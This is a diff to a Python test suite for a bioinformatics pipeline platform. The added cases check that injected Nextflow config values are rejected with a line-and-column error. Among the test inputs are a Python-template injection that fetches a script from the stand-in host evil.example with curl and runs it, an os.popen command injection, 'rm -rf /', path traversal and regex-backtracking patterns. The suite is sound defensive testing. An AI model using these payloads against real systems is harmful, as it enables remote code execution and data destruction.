@@ -86,6 +86,28 @@ ATTACKS = [
     pytest.param("process { withName: 'STAR_ALIGN' { ext.args = '$(curl x)' } }", 1, 47, id="ext.args-subst"),
     pytest.param("process.ext.args = '--x\\nrm -rf /'", 1, 20, id="ext.args-escaped-newline"),
     pytest.param("process.ext.args = '--x\nrm -rf /'", 1, 20, id="ext.args-raw-newline"),
+    # ...and by nf-core's Python templates into Python source: cellranger/count/templates/cellranger_count.py
+    # has `"--id", "${prefix}",` and `*shlex.split("""${args}""")`, so a `"` closes the Python literal.
+    pytest.param(
+        "process {\n    withName: 'CELLRANGER_COUNT' {\n"
+        '        ext.prefix = \'x", __import__("os").system("curl -so /tmp/p evil.example/p"),'
+        ' __import__("os").system("sh /tmp/p"), "\'\n    }\n}',
+        3,
+        22,
+        id="ext.prefix-python-template",
+    ),
+    pytest.param('process.ext.args = \'""" + __import__("os").popen("id").read() + """\'', 1, 20, id="ext.args-python"),
+    pytest.param("process.ext.args = '--x \"a\" --y'", 1, 20, id="ext.args-balanced-quotes"),
+    pytest.param("process.ext.args = '--x # comments out the line continuation'", 1, 20, id="ext.args-hash"),
+    pytest.param("process.ext.args = '--reads /data/*.fq'", 1, 20, id="ext.args-glob"),
+    pytest.param("process.ext.args = '--reads {a,b}.fq'", 1, 20, id="ext.args-brace"),
+    pytest.param("process.ext.prefix = '../../other-run/results/x'", 1, 22, id="ext.prefix-dotdot"),
+    pytest.param("process.ext.prefix = 'a/b'", 1, 22, id="ext.prefix-slash"),
+    # withName:/withLabel: patterns are Java regexes matched on the orchestrator.
+    pytest.param("process { withName: '(.*)*X' { cpus = 1 } }", 1, 21, id="pattern-nested-quantifier"),
+    pytest.param("process { withName: '.*.*.*.*.*.*.*.*X' { cpus = 1 } }", 1, 21, id="pattern-backtracking"),
+    pytest.param("process { withLabel: '[a-' { cpus = 1 } }", 1, 22, id="pattern-invalid"),
+    pytest.param("process { withName: '*X' { cpus = 1 } }", 1, 21, id="pattern-dangling-star"),
     # Requests above the platform's maxima (ARC_TASK_MAX_*).
     pytest.param("process.cpus = 999", 1, 16, id="cpus"),
     pytest.param("process { withName: 'STAR_ALIGN' { memory = 10.TB } }", 1, 45, id="memory"),
@@ -104,6 +126,28 @@ async def test_config_attack_is_a_400_naming_line_and_column(
     assert messages, response.text
     assert messages[0].startswith(f"line {line}, column {column}: "), messages
     assert "; " in messages[0]  # what was found; what is allowed
+
+
+@pytest.mark.parametrize(
+    ("params", "field", "maximum"),
+    [
+        ({"max_cpus": 100000}, "params.max_cpus", "36"),
+        ({"max_memory": "900.TB"}, "params.max_memory", "GB"),
+        ({"max_time": "9999.d"}, "params.max_time", "h"),
+        ({"max_cpus": "lots"}, "params.max_cpus", "36"),
+    ],
+)
+async def test_cap_params_above_the_platform_maxima_are_a_400(
+    platform: Running, params: dict[str, Any], field: str, maximum: str
+) -> None:
+    """They go to -params-file, which beats the platform's params.max_* in the -c config: refused up front."""
+    response = await platform.http.post(
+        "/api/runs", json=scrnaseq("", params={**SCRNASEQ_PARAMS, **params}), headers=ALICE_HTTP
+    )
+    assert response.status_code == 400, response.text
+    found = [v for v in violations(response) if v["field"] == field]
+    assert found, response.text
+    assert any(maximum in v["description"] for v in found), found
 
 
 async def test_custom_config_base_in_the_config_params_block_is_refused(platform: Running) -> None:
